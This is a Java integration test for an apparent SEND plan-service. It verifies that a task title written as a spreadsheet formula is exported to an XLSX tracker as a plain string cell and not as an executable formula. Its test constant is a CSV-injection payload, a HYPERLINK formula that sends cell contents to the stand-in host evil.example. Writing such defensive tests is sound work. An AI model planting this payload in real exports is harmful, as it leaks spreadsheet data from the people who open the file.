package uk.send.plan.exports.rest;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import uk.send.devstack.DevTokens;
import uk.send.devstack.DevstackTestResource;
import uk.send.plan.imports.rest.ImportResource;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * A task title typed as a spreadsheet formula (OWASP "CSV injection") is a plain string cell in the programme tracker
 * (XLSX never runs a string cell), written as typed with no quote added (the tracker is also an import format).
 * plan-service's only CSV (EHCP timeliness) holds periods and counts, no typed text.
 */
@QuarkusTest
@QuarkusTestResource(value = DevstackTestResource.class, initArgs = @ResourceArg(name = "database", value = "plan"))
class SpreadsheetFormulaExportTest {

    private static final String EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    private final String la = "SX" + UUID.randomUUID().toString().substring(0, 8);
    private final String lead = DevTokens.mint(la, "lead@" + la + ".gov.uk", "programme-lead");

    @Test
    void shouldWriteAFormulaLikeTitleAsAPlainStringCell() throws IOException {
        String programme = given().auth().oauth2(lead).contentType("application/json")
                .body(Map.of("title", "Anytown recovery plan", "kind", "RECOVERY_PLAN")).post("/api/v1/programmes")
                .then().statusCode(201).extract().path("id");
        given().auth().oauth2(lead).contentType("application/json").body(Map.of("title", EVIL))
                .post("/api/v1/programmes/" + programme + "/tasks").then().statusCode(201);

        byte[] tracker = given().auth().oauth2(lead).get("/api/v1/programmes/" + programme + "/exports/tracker.xlsx")
                .then().statusCode(200).contentType(ImportResource.XLSX).extract().asByteArray();
        List<Cell> cells = new ArrayList<>();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(tracker))) {
            wb.forEach(sheet -> {
                for (Row row : sheet) {
                    row.forEach(cells::add);
                }
            });
        }
        assertThat(cells).noneMatch(c -> c.getCellType() == CellType.FORMULA);
        assertThat(cells).anySatisfy(c -> {
            assertThat(c.getCellType()).isEqualTo(CellType.STRING);
            assertThat(c.getStringCellValue()).isEqualTo(EVIL);
        });
        assertThat(cells).noneMatch(c -> c.getCellType() == CellType.STRING && c.getStringCellValue().startsWith("'"));
    }
}
